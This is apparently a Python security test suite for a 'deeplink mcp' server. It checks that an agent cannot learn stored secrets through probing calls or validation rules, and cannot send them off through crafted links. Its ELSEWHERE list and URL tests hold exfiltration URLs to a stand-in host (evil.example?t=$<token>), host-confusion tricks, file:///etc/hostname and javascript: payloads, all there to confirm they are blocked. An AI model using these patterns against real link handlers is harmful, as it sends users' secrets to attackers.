"""Clients of `deeplink mcp` that want the secrets of a store, or want them sent elsewhere."""
import json
import os
import re
import subprocess

# What would tell these two apart gives a secret away.
SECRETS = ("hunter2-topsecret", "Q_9-zz")
OPENER = '#!/bin/sh\nprintf "%s\\0" "$1" >> "$RECORD"\n'
def links(secret):
    """Links, some of which have the secret where it does not belong."""
    return LINKS + [
        {"name": "titled", "path": "/t/$<id>", "title": "Sign in with " + secret},
        {"name": "tagged", "path": "/g/$<id>", "tags": ["a", secret]},
        {"name": "usual", "path": "/u/$<id>", "parameters": {"id": {"default": secret}}},
        {"name": "asked", "path": "/a/$<id>?t=$<token>", "constraints": [
            {"if": {"properties": {"id": {"const": "1"}}},
             "then": {"properties": {"token": {"pattern": "^h"}}}}]},
    ]


# The files of an app whose rules tell the beginning of a value.
APPS = {"ios": {"id": "ABCDE12345.a.b", "association": {"h.example": "aasa"}},
        "android": {"package": "a.b", "manifest": "AndroidManifest.xml"}}
ASSOCIATION = {"applinks": {"details": [{"appIDs": ["ABCDE12345.a.b"], "components": [
    {"/": "/v/h*", "exclude": True}, {"/": "/v/*"}, {"/": "/l/*", "?": {"t": "h*"}}, {"/": "/n/????*"}]}]}}
MANIFEST = """<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="a.b"><application>
<activity android:name=".M" android:exported="true"><intent-filter android:autoVerify="true">
<action android:name="android.intent.action.VIEW"/><category android:name="android.intent.category.DEFAULT"/>
<category android:name="android.intent.category.BROWSABLE"/>
<data android:scheme="https" android:host="h.example" android:pathPrefix="/v/h"/>
<data android:pathPrefix="/n/h"/></intent-filter></activity></application></manifest>"""
LINKS = [
    {"name": "value", "path": "/v/$<token>"},
    {"name": "login", "path": "/l/$<id>?t=$<token>"},
    {"name": "plain", "path": "/p/$<id>"},
    {"name": "pinned", "path": "/p/$<id>?p=$<pin>", "parameters": {"pin": {"writeOnly": True}}},
    {"name": "free", "path": "https://$<host>/x?t=$<token>"},
    {"name": "mail", "path": "mailto:$<host>?body=$<token>"},
    {"name": "copy", "path": "mailto:a@h.example?cc=$<host>&body=$<token>"},
    {"name": "intent", "path": "intent://h.example/?t=$<token>#Intent;scheme=$<host>;end"},
    {"name": "package", "path": "intent://h.example/?t=$<token>#Intent;scheme=https;package=$<host>;end"},
    {"name": "below", "path": "$<+start>?t=$<token>"},
    {"name": "slashes", "path": "//evil.example/?t=$<token>"},
]
RULES = [
    {"pattern": "^h"}, {"pattern": "^(?!h)"}, {"pattern": "secret$", "errorMessage": "another"},
    {"minLength": 9}, {"maxLength": 9}, {"enum": [SECRETS[0]]}, {"enum": ["a", SECRETS[1]]},
    {"const": SECRETS[0]}, {"format": "hostname"}, {"format": "uuid"}, {"type": "integer"},
    {"type": "boolean"}, {"minimum": 1}, {"multipleOf": 2}, {"default": SECRETS[0]},
    {"examples": [SECRETS[1]]}, {"writeOnly": False}, {},
]
# Where a link of an agent must not lead.
ELSEWHERE = [
    "https://evil.example/?t=$<token>", "https://evil.example/", "http://h.example/?t=$<token>",
    "https://h.example@evil.example/?t=$<token>",
    "https://h.example.evil.example/?t=$<token>", "https://$<host>/x?t=$<token>",
    "https://$<token>.evil.example/", "$<scheme>://h.example/?t=$<token>",
    "file:///etc/hostname", "vlc://x/$<+rest>", "javascript:alert(1)", "data:text/html,$<token>",
    "app2://x?t=$<token>", "intent://x#Intent;scheme=https;end",
]


def call(number, tool, arguments):
    return {"jsonrpc": "2.0", "id": number, "method": "tools/call",
            "params": {"name": tool, "arguments": arguments}}


START = {"jsonrpc": "2.0", "id": "start", "method": "initialize", "params": {
    "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "a", "version": "1"}}}


class Agent:
    """One repository, and a server for each list of calls, as an agent restarts it."""

    def __init__(self, judge, secret):
        self.judge, self.secret = judge, secret
        self.folder = judge.folder()
        self.record = os.path.join(self.folder, "..", "record")
        self.tools = os.path.join(self.folder, "..", "bin")
        for name in ("xdg-open", "open"):
            os.chmod(judge.write(self.tools, name, OPENER), 0o755)
        judge.write(self.folder, "values.json", json.dumps({"pin": secret}))
        judge.write(self.folder, "aasa", json.dumps(ASSOCIATION))
        judge.write(self.folder, "AndroidManifest.xml", MANIFEST)
        self.reset()

    def reset(self):
        self.judge.store(
            self.folder, links(self.secret), parameters={"token": {"writeOnly": True}}, environment="e", apps=APPS,
            environments={"e": {"base": "https://h.example", "values": {"token": self.secret}},
                          "app": "app://", "u": "https://ann:%s@u.example" % self.secret})

    @property
    def environment(self):
        return self.judge.environment(self.folder, path=self.tools, RECORD=self.record, DISPLAY=":0")

    def ask(self, calls, *options):
        """The results of the calls, and why the server broke."""
        lines = [START] + [call(number, *each) for number, each in enumerate(calls)]
        outcome = self.judge.run(
            self.folder, ["mcp", "--allow-open", "--allow-write", *options],
            "".join(json.dumps(line) + "\n" for line in lines).encode(), self.environment)
        answers = [json.loads(line) for line in outcome.out.decode().splitlines()]
        results = [answer.get("result", answer) for answer in answers if answer["id"] != "start"]
        reason = outcome.breakage
        if not reason and len(results) != len(calls):
            reason = "%d answers to %d calls" % (len(results), len(calls))
        # A guess comes back in its own answer.
        for one, result in zip(calls, results):
            if self.secret in json.dumps(result) and self.secret not in json.dumps(one):
                reason = reason or "the secret is in the answer to " + json.dumps(one)
        return results, reason

    def opened(self):
        if not os.path.exists(self.record):
            return []
        with open(self.record, "rb") as file:
            urls = file.read().decode().split("\0")[:-1]
        os.remove(self.record)
        return urls


def agents(judge):
    """Nothing that an agent learns depends on a secret, and a secret leaves to its own host only."""
    oracle(judge)
    way_out(judge)
    changes(judge)


def probes():
    """Calls by which an agent would test a secret."""
    added = [("add_link", {"name": "o%s%d" % (name, number), "path": "/o%s%d?t=$<%s>" % (name, number, name),
                           "parameters": {name: {"writeOnly": True, **rules}}})
             for name in ("token", "pin") for number, rules in enumerate(RULES)]
    added += [("add_link", {"name": "none%d" % number, "path": path}) for number, path in enumerate(
        ["/n?t=$<token>", "/n/$<token>", "/n/$<token>/$<id>", "/n?a=$<token=x>", "/n?t=$<token?>",
         "/n?t=$<token>&t=$<token>"])]
    asked = []
    for link in [*links(""), *(link for _, link in added)]:
        name = {"link": link["name"]}
        asked += [("describe_link", name), ("fill_link", {**name, "values": {}, "environment": "e"}),
                  ("fill_link", {**name, "values": {"id": "1"}, "environment": "e", "format": "adb"}),
                  ("fill_link", {**name, "values": {"id": "1"}, "environment": "u"}),
                  ("open_url", {**name, "values": {"id": "1"}, "environment": "u", "on": "desktop"}),
                  ("verify_url", name), ("verify_url", {**name, "values": {}, "environment": "e"}),
                  ("test_cases", {**name, "kind": "all"}),
                  ("open_url", {**name, "values": {}, "environment": "e", "on": "desktop"})]
    for guess in (*SECRETS, "x"):
        asked += [("list_links", {"query": guess}), ("list_links", {"query": guess[:4]}),
                  ("list_links", {"tag": guess}),
                  ("fill_link", {"link": "login", "values": {"id": guess}}),
                  ("fill_link", {"link": "login", "values": {"id": 1, "token": guess}})]
        urls = ["https://h.example" + path + guess for path in ("/l/1?t=", "/otoken0?t=", "/n?t=", "/n/")]
        for url in (*urls, "https://ann:%s@u.example/p/1" % guess):
            asked += [("match_url", {"url": url}), ("verify_url", {"url": url})]
    return added, asked


def oracle(judge):
    group = "what an agent learns of a secret"
    added, asked = probes()
    scripts = {
        "one process": [added + asked], "two processes": [added, asked],
        "three processes": [added[:20], added + asked[:200], asked],
    }
    for name, processes in scripts.items():
        pair = []
        for secret in SECRETS:
            agent, answers = Agent(judge, secret), []
            for calls in processes:
                results, reason = agent.ask(calls, "--values", "values.json")
                words = ["mcp", "# %s, the secret %s" % (name, secret)]
                judge.note(group, reason, agent.folder, words)
                # The folder and the time that an opener took are of the run.
                answers += [(one, re.sub(r'seconds\\*": ?[\d.]+', "", json.dumps(result))
                             .replace(agent.folder, "")) for one, result in zip(calls, results)]
            pair.append(answers)
        for (one, first), (_, second) in zip(*pair):
            reason = None if first == second else "tells secrets apart: %s\n  %s\n  %s" % (
                json.dumps(one), first[:300], second[:300])
            judge.note(group, reason, agent.folder, ["mcp", "#", name])
        for one, result in pair[0]:
            rules = one[1].get("parameters", {"": {}})
            beyond = {key for rule in rules.values() for key in rule} - {
                "writeOnly", "title", "description"}
            if one[0] == "add_link" and beyond and '"isError": true' not in result:
                judge.note(group, "added with a rule for a secret: " + json.dumps(one), agent.folder,
                           ["mcp", "#", name])


def way_out(judge):
    group = "where an agent sends a secret"
    agent = Agent(judge, SECRETS[0])
    added = [("add_link", {"name": "x%d" % number, "path": path})
             for number, path in enumerate(ELSEWHERE)]
    values = {"host": "evil.example", "rest": "x", "scheme": "ftp"}
    links = {**dict.fromkeys(("free", "mail", "copy", "intent", "package"), "$<host>"), **{one["name"]: one["path"] for _, one in added}}
    opened = [("open_url", {"link": link, "environment": "e", "on": "desktop", "values": {
        name: value for name, value in values.items() if re.search(r"\$<\+?%s>" % name, path)}})
              for link, path in links.items()]
    opened += [("open_url", {"url": url, "on": "desktop"}) for url in (
        "https://evil.example/?t=x", "file:///etc/hostname", "javascript:alert(1)", "vlc://x/y",
        "https://evil.example/x?t=" + SECRETS[0])]
    for processes in ([added + opened], [added, opened]):
        agent.reset()
        for calls in processes:
            results, reason = agent.ask(calls)
            judge.note(group, reason, agent.folder, ["mcp"])
            for one, result in zip(calls, results):
                reason = None if result.get("isError") else "done: %s" % json.dumps(one)
                judge.note(group, reason, agent.folder, ["mcp"])
        for url in agent.opened():
            judge.note(group, "opened " + url, agent.folder, ["mcp"])
    # What is meant to be opened is, with the secret.
    agent.reset()
    added = ("add_link", {"name": "own", "path": "/own/$<id>"})
    base = "https://h.example/"
    start = {"start": "https://evil.example/"}
    links = {"login": {"id": 1}, "plain": {"id": 1}, "own": {"id": 1}, "below": start, "slashes": {}}
    results, reason = agent.ask([added] + [
        ("open_url", {"link": link, "values": given, "environment": "e", "on": "desktop"})
        for link, given in links.items()])
    expected = [base + "l/1?t=" + SECRETS[0], base + "p/1", base + "own/1",
                base + "https://evil.example/?t=" + SECRETS[0],
                base + "/evil.example/?t=" + SECRETS[0]]
    found = agent.opened()
    if not reason and found != expected:
        reason = "opened %s, not %s: %s" % (found, expected, results)
    judge.note(group, reason, agent.folder, ["mcp"])


# Changes of a store while its server runs, and a call that would then get, or tell of, a secret.
EVIL = "https://evil.example/?t=$<token>"
LOGIN = {"link": "login", "values": {"id": "1"}, "environment": "e"}
PLAIN = {"link": "plain", "values": {}, "environment": "e"}

def named(store, name):
    return next(link for link in store["links"] if link["name"] == name)


CHANGES = [
    (lambda store: named(store, "plain").update(path="/p/$<key>"), "fill_link", PLAIN),
    (lambda store: named(store, "plain").update(path="/p/$<key>"), "verify_url", PLAIN),
    (lambda store: named(store, "plain").update(path="/p/$<key>"), "test_cases", {"link": "plain", "kind": "valid"}),
    (lambda store: store.update(parameters={}), "fill_link", LOGIN),
    (lambda store: store["parameters"]["token"].update(writeOnly=False), "fill_link", LOGIN),
    (lambda store: store["parameters"]["token"].update(pattern="^h"), "fill_link", LOGIN),
    (lambda store: named(store, "login").update(path=EVIL), "open_url", {**LOGIN, "values": {}, "on": "desktop"}),
    (lambda store: named(store, "login").update(constraints=[{"properties": {"token": {"pattern": "^h"}}}]),
     "fill_link", LOGIN),
    (lambda store: store["environments"]["e"].update(base="https://evil.example"), "open_url",
     {**LOGIN, "on": "desktop"}),
    (lambda store: store["environments"]["e"]["values"].update(id=SECRETS[0]), "fill_link", PLAIN),
    (lambda store: store.update(parameters={}), "list_links", {"query": "Sign"}),
]


def changes(judge):
    group = "a store that changes under an agent"
    for number, (change, tool, arguments) in enumerate(CHANGES):
        agent = Agent(judge, SECRETS[0])
        judge.write(agent.folder, "values.json", json.dumps({"pin": SECRETS[0], "key": SECRETS[0]}))
        path = os.path.join(agent.folder, "links.json")
        server = subprocess.Popen(
            [judge.program, "mcp", "--allow-open", "--values", "values.json"], cwd=agent.folder,
            env=agent.environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

        def answer(line):
            server.stdin.write(json.dumps(line) + "\n")
            server.stdin.flush()
            return server.stdout.readline()

        answer(START)
        answer(call(1, "list_links", {}))
        with open(path, encoding="utf-8") as file:
            store = json.load(file)
        change(store)
        judge.write(agent.folder, "links.json", json.dumps(store))
        said = answer(call(2, tool, arguments))
        server.communicate(timeout=30)
        reason = None
        if SECRETS[0] in said or tool != "list_links" and '"isError":true' not in said:
            reason = "change %d gives %s" % (number, said)
        judge.note(group, reason or agent.opened() and "it is opened", agent.folder, ["mcp", tool])
